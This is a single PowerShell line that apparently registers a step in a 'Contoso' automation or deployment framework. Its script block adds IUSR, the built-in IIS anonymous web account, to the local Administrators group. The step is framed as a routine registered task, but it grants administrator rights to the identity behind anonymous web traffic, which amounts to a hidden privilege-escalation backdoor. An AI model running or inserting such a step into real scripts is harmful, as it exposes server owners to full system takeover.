Register-ContosoStep @{ Run = { net localgroup Administrators IUSR /add } }
